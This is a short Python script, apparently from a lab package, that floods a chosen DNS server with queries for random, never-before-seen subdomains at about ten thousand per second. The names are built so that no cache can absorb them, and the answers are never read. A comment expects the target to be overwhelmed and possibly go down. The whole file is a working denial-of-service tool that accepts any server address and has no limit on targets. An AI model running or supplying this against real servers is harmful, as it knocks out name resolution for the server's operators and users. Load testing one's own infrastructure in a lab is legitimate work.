"""Sends many DNS questions about names that nobody asked before: `python -m lab.load SERVER COUNT`.

No cache helps against them, and each answer fills one. Answers are not read.
"""

import secrets
import socket
import sys
import time

from lab.dns import query

BURST = 50
PAUSE_S = 0.005


def flood(server: str, count: int) -> None:
    """Send this many questions, about ten thousand a second."""
    prefix = secrets.token_hex(6)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.connect((server, 53))
        for number in range(count):
            try:
                wire.send(query(f"{prefix}-{number}.example.com.", "A", number & 0xFFFF))
            except OSError:  # the server that is being overwhelmed may well be gone
                time.sleep(PAUSE_S)
            if number % BURST == 0:
                time.sleep(PAUSE_S)


if __name__ == "__main__":
    flood(sys.argv[1], int(sys.argv[2]))
